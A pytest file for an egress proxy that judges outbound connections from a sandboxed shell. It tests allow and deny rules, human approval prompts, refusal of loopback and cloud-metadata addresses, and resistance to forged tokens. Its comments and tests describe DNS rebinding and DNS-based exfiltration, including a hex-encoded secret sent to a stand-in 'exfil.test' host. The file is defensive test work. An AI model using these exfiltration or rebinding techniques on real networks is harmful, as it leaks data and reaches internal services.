"""The egress proxy of --network policy, driven over real sockets: HTTP servers the test starts on 127.0.0.1,
names resolved to loopback by a test resolver, clients speaking CONNECT and absolute-form HTTP.

The proxy is not yet wired into shell_exec's box (see docs/shell_exec.md); these tests pin the judging and the
forwarding it will rely on."""

from __future__ import annotations

import asyncio
import base64
import ipaddress
import socket
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from mcp_server_guard.policy import (
    HostRule,
    HostVerdict,
    IPAddress,
    NetworkRuleError,
    NetworkRules,
    load_policy,
    special_address,
)
from mcp_server_guard.shell.egress import EgressProxy
from mcp_server_guard.shell.sandbox.call_init import proxy_env

BIG = 50 * 1000 * 1000
NAMES = {"allowed.test", "denied.test", "unnamed.test", "wild.allowed.test", "pypi.org"}


class _Handler(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        if self.path == "/big":
            self.send_response(200)
            self.send_header("Content-Length", str(BIG))
            self.end_headers()
            block = b"x" * (1 << 20)
            left = BIG
            while left:
                n = min(left, len(block))
                self.wfile.write(block[:n])
                left -= n
            return
        body = f"hello from {self.headers.get('Host')}".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        return


@dataclass
class Running:
    proxy: EgressProxy
    port: int  # the proxy's
    origin: int  # the HTTP server's
    asked: list[tuple[str | None, str, int]]
    answer: list[bool]  # what the stand-in human says to an ask
    reasons: list[str]  # the reason each question gave
    looked_up: list[str]  # every name the proxy resolved


@pytest.fixture
def running() -> Iterator[Running]:
    origin = ThreadingHTTPServer(("127.0.0.1", 0), _Handler)
    # a short poll: shutdown() at teardown waits up to one poll interval (0.5 s by default)
    threading.Thread(target=origin.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()
    oport = origin.server_address[1]
    rules = NetworkRules.parse(
        allow=[f"allowed.test:{oport}", f"*.allowed.test:{oport}", f"denied.test:{oport}", f"pypi.org:{oport}"],
        deny=["denied.test"],
    )
    asked: list[tuple[str | None, str, int]] = []
    answer: list[bool] = []
    reasons: list[str] = []
    looked_up: list[str] = []

    rebinding = ["93.184.216.34", "127.0.0.1"]  # rebind.test: a public answer first, then loopback

    async def resolver(host: str, port: int) -> list[IPAddress]:
        # The test hook: chosen names lead to loopback, where the test's server listens; nothing else resolves.
        looked_up.append(host)
        if host == "rebind.test":
            return [ipaddress.ip_address(rebinding.pop(0) if len(rebinding) > 1 else rebinding[0])]
        if host in NAMES:
            return [ipaddress.ip_address("127.0.0.1")]
        try:
            return [ipaddress.ip_address(host)]
        except ValueError:
            raise OSError("no such name") from None

    async def asker(token: str | None, host: str, port: int, verdict: HostVerdict) -> HostVerdict:
        asked.append((token, host, port))
        reasons.append(verdict.reason)
        said = answer.pop(0) if len(answer) > 1 else bool(answer and answer[0])  # several: one per question
        if said:
            # The approval covers the special addresses the question showed (verdict.addresses), no others.
            return HostVerdict("allow", "approved-command", "approved by the stand-in human", verdict.addresses)
        return HostVerdict("deny", "not-approved", "refused by the stand-in human")

    proxy = EgressProxy(rules, asker=asker, resolver=resolver)
    for call in range(1, 10):  # the calls the tests make (a token no call opened is judged, not recorded)
        proxy.open_call(f"call{call}")
    loop = asyncio.new_event_loop()
    listener = socket.create_server(("127.0.0.1", 0))
    ready = threading.Event()

    def run() -> None:
        asyncio.set_event_loop(loop)
        loop.call_soon(proxy.listen_on, listener)
        ready.set()
        loop.run_forever()

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    assert ready.wait(10)
    try:
        yield Running(proxy, listener.getsockname()[1], oport, asked, answer, reasons, looked_up)
    finally:
        asyncio.run_coroutine_threadsafe(proxy.close(), loop).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join(10)
        loop.close()
        origin.shutdown()
        origin.server_close()


def _auth(token: str | None) -> bytes:
    if token is None:
        return b""
    return b"Proxy-Authorization: Basic " + base64.b64encode(f"{token}:x".encode()) + b"\r\n"


def _read_response(sock: socket.socket) -> tuple[int, dict[str, str], bytes]:
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode().split("\r\n")
    status = int(lines[0].split()[1])
    headers = {k.lower(): v.strip() for k, _, v in (line.partition(":") for line in lines[1:])}
    want = int(headers.get("content-length", "-1"))
    while want < 0 or len(body) < want:
        chunk = sock.recv(1 << 20)
        if not chunk:
            break
        body += chunk
    return status, headers, body


def http_get(r: Running, host: str, port: int, token: str | None = "call1") -> tuple[int, dict[str, str], bytes]:
    """A plain-HTTP request in absolute form, as curl sends one through HTTP_PROXY."""
    with socket.create_connection(("127.0.0.1", r.port), timeout=20) as sock:
        sock.sendall(
            f"GET http://{host}:{port}/hello HTTP/1.1\r\nHost: {host}:{port}\r\n".encode() + _auth(token) + b"\r\n"
        )
        return _read_response(sock)


def connect_get(
    r: Running, host: str, port: int, path: str = "/hello", token: str | None = "call1"
) -> tuple[int, dict[str, str], bytes]:
    """CONNECT host:port, then a request through the tunnel (what HTTPS clients do, TLS aside)."""
    with socket.create_connection(("127.0.0.1", r.port), timeout=20) as sock:
        sock.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n".encode() + _auth(token) + b"\r\n")
        reply = b""
        while b"\r\n\r\n" not in reply:
            chunk = sock.recv(4096)
            assert chunk, "the proxy closed the connection"
            reply += chunk
        status = int(reply.split()[1])
        if status != 200:
            head, _, rest = reply.partition(b"\r\n\r\n")
            return status, {"x-mcp-guard-rule": _header(head, "x-mcp-guard-rule")}, rest
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
        return _read_response(sock)


def _header(head: bytes, name: str) -> str:
    for line in head.decode().split("\r\n")[1:]:
        key, _, value = line.partition(":")
        if key.strip().lower() == name:
            return value.strip()
    return ""


def test_an_allowed_name_is_fetched_through_the_proxy(running: Running) -> None:
    status, _, body = http_get(running, "allowed.test", running.origin)
    assert (status, body) == (200, f"hello from allowed.test:{running.origin}".encode())
    status, _, body = connect_get(running, "allowed.test", running.origin)
    assert status == 200 and body == b"hello from allowed.test"
    assert running.proxy.take_denied("call1") == []


def test_a_denied_name_is_refused_and_reported_for_its_call(running: Running) -> None:
    # deny wins: denied.test is also on the allow list
    status, headers, body = connect_get(running, "denied.test", running.origin, token="call7")
    assert status == 403 and headers["x-mcp-guard-rule"] == "deny:denied.test"
    assert b"denied" in body
    [denied] = running.proxy.take_denied("call7")
    assert (denied.host, denied.port, denied.rule) == ("denied.test", running.origin, "deny:denied.test")
    assert running.proxy.take_denied("call7") == []  # taken once


def test_an_unnamed_name_is_asked_about_and_refused_when_not_approved(running: Running) -> None:
    status, _, _ = connect_get(running, "unnamed.test", running.origin, token="call2")
    assert status == 403
    assert running.asked == [("call2", "unnamed.test", running.origin)]
    assert running.proxy.take_denied("call2")[0].rule == "not-approved"
    running.answer.append(True)
    status, _, body = connect_get(running, "unnamed.test", running.origin, token="call3")
    assert status == 200 and body == b"hello from unnamed.test"


def test_an_unnamed_name_is_refused_when_nobody_can_be_asked(running: Running) -> None:
    running.proxy.asker = None
    status, headers, _ = http_get(running, "unnamed.test", running.origin, token="call4")
    assert status == 403 and headers["x-mcp-guard-rule"] == "unnamed-host"
    assert running.proxy.take_denied("call4")[0].host == "unnamed.test"


def test_an_ip_literal_is_judged_by_the_same_rules(running: Running) -> None:
    # No entry names 127.0.0.1: it is asked about (refused here), never let through as "just an address".
    status, _, _ = connect_get(running, "127.0.0.1", running.origin, token="call5")
    assert status == 403
    assert running.asked == [("call5", "127.0.0.1", running.origin)]


def test_a_public_looking_name_that_resolves_to_a_private_address_is_refused(running: Running) -> None:
    # The attack: DNS rebinding, or an allowed registry's name pointed at the local network. A glob allows
    # names; it never names an address, so a name it allows that resolves to loopback is refused.
    status, headers, body = connect_get(running, "wild.allowed.test", running.origin, token="call6")
    assert status == 403 and headers["x-mcp-guard-rule"] == "private-address"
    assert b"127.0.0.1" in body


def test_a_50_mb_download_goes_through_the_proxy_whole(running: Running) -> None:
    status, headers, body = connect_get(running, "allowed.test", running.origin, path="/big")
    assert status == 200 and int(headers["content-length"]) == BIG
    assert len(body) == BIG


def test_requests_that_are_not_proxy_requests_get_400(running: Running) -> None:
    with socket.create_connection(("127.0.0.1", running.port), timeout=20) as sock:
        sock.sendall(b"GET /hello HTTP/1.1\r\nHost: x\r\n\r\n")
        assert _read_response(sock)[0] == 400
    with socket.create_connection(("127.0.0.1", running.port), timeout=20) as sock:
        sock.sendall(b"GET http://allowed.test/ HTTP/1.1\r\nX: " + b"a" * (70 << 10) + b"\r\n\r\n")
        assert _read_response(sock)[0] == 400


def test_host_entries_parse_names_globs_addresses_blocks_and_ports() -> None:
    assert HostRule.parse("*.pypi.org:443").matches("files.pypi.org", 443)
    assert HostRule.parse("*.pypi.org:443").matches("pypi.org", 443)
    assert not HostRule.parse("*.pypi.org:443").matches("pypi.org", 80)
    assert HostRule.parse("10.0.0.0/8").matches("10.1.2.3", 22)
    assert HostRule.parse("[::1]:8080").matches("::1", 8080)
    for bad in ("bad host", "x.org:0", "x.org:http", ":443", "[::1"):
        with pytest.raises(NetworkRuleError):
            HostRule.parse(bad)


def test_special_addresses_include_metadata_and_mapped_private_ones() -> None:
    for text in (
        *("127.0.0.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "::1", "::ffff:10.0.0.1"),
        *("2002:7f00:1::", "2002:a9fe:a9fe::1"),
    ):
        assert special_address(ipaddress.ip_address(text)), text
    assert not special_address(ipaddress.ip_address("151.101.0.223"))


def test_the_packaged_allow_list_covers_the_registries_and_a_policy_file_adds_to_it(tmp_path: object) -> None:
    from pathlib import Path

    rules = NetworkRules.parse(load_policy().network.allow, load_policy().network.deny)
    for host in ("pypi.org", "files.pythonhosted.org", "registry.npmjs.org", "crates.io", "proxy.golang.org"):
        assert rules.judge(host, 443).action == "allow", host
    assert rules.judge("github.com", 443).action == "allow"
    assert rules.judge("example.org", 443).action == "ask"
    assert rules.judge("pypi.org", 80).action == "ask"
    extra = Path(str(tmp_path)) / "net.toml"
    extra.write_text('[network]\nallow = ["example.org:443"]\ndeny = ["github.com"]\n')
    policy = load_policy(extra)
    rules = NetworkRules.parse(policy.network.allow, policy.network.deny)
    assert rules.judge("example.org", 443).action == "allow"
    assert rules.judge("pypi.org", 443).action == "allow"  # still there
    assert rules.judge("github.com", 443).action == "deny"  # deny wins over the packaged allow


def test_proxy_env_names_the_proxy_in_both_cases() -> None:
    env = proxy_env(3128, "tok")
    for key in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
        assert env[key] == "http://tok:x@127.0.0.1:3128"


def test_made_up_tokens_cannot_grow_the_proxys_tables(running: Running) -> None:
    # The attack: a command sends request after request, each with a new token no call opened.
    for i in range(50):
        status, _, _ = connect_get(running, "denied.test", running.origin, token=f"forged{i}")
        assert status == 403
    assert running.proxy.denied == {} and running.proxy.allowed == {}


def test_dns_rebinding_after_an_approval_cannot_reach_loopback(running: Running) -> None:
    # The attack: the human approves a name; its first answer is a public address, a later one 127.0.0.1 (or
    # 169.254.169.254). The approval covers only what its human saw: the name, no special address. Reaching one
    # takes a second question that names the address, and a no refuses it.
    running.answer.append(True)
    status, _, _ = connect_get(running, "rebind.test", running.origin, token="call6")
    assert status == 502  # the public answer (nothing listens there in this test)
    running.answer[:] = [True, False]  # yes to the name again; no once told it resolves to loopback
    status, headers, _ = connect_get(running, "rebind.test", running.origin, token="call6")
    assert status == 403 and headers["x-mcp-guard-rule"] == "not-approved"
    assert running.asked == [("call6", "rebind.test", running.origin)] * 3  # the name twice, then the warning
    assert "WARNING: it resolves to 127.0.0.1" in running.reasons[-1]


def test_a_name_no_rule_allows_is_not_looked_up_before_its_human_says_yes(running: Running) -> None:
    # The attack: a lookup carries data out by itself (``<secret>.attacker.example`` reaches the attacker's name
    # server), whatever the answer to the question: no lookup before the yes, none after a no.
    for token in ("call7", "call8"):
        status, _, _ = connect_get(running, "73656372657421.exfil.test", running.origin, token=token)
        assert status == 403
    assert "73656372657421.exfil.test" not in running.looked_up


def test_a_calls_listener_let_go_at_its_end_never_steals_the_next_sockets_wakeups() -> None:
    # A call ends while the next one starts: its listener's descriptor number is free again at once, and the next
    # call's status socket may get it. Closing the listener before its accept task has stopped watching the number
    # left that socket unwatched: the call waited for its status until its timeout.
    async def scenario() -> bool:
        loop = asyncio.get_running_loop()
        proxy = EgressProxy(NetworkRules.parse([], []))
        listener = socket.create_server(("127.0.0.1", 0))
        number = listener.fileno()
        proxy.open_call("call1")
        proxy.listen_on(listener, owner="call1")
        await asyncio.sleep(0)  # the accept task watches the listener
        proxy.take_decisions("call1")  # the call ended
        ours, theirs = socket.socketpair()
        assert ours.fileno() == number or listener.fileno() == number  # reused at once, or not yet let go
        ours.setblocking(False)
        woke = loop.create_future()
        loop.add_reader(ours, lambda: None if woke.done() else woke.set_result(True))
        theirs.send(b"x")
        try:
            return await asyncio.wait_for(woke, 2.0)
        except TimeoutError:
            return False
        finally:
            loop.remove_reader(ours)
            ours.close()
            theirs.close()
            await proxy.close()

    assert asyncio.run(scenario())


def test_a_listener_shut_by_its_init_as_its_call_ends_makes_the_loop_log_nothing() -> None:
    # The init shuts a call's listener (accept then fails with EINVAL) while the server, in the same turn of the
    # loop, stops accepting on it: the wake-up for the shut listener was already queued behind that. asyncio's own
    # sock_accept then set an exception on the cancelled future and the loop logged an InvalidStateError.
    async def scenario() -> list[dict[str, object]]:
        loop = asyncio.get_running_loop()
        logged: list[dict[str, object]] = []
        loop.set_exception_handler(lambda _loop, context: logged.append(context))
        proxy = EgressProxy(NetworkRules.parse([], []))
        listener = socket.create_server(("127.0.0.1", 0))
        proxy.open_call("call1")
        proxy.listen_on(listener, owner="call1")
        await asyncio.sleep(0)  # the accept task watches the listener
        listener.shutdown(socket.SHUT_RDWR)
        loop.call_soon(proxy.take_decisions, "call1")  # runs before the listener's wake-up, in the next turn
        for _ in range(5):
            await asyncio.sleep(0)
        await asyncio.sleep(0.05)
        await proxy.close()
        return logged

    assert asyncio.run(scenario()) == []
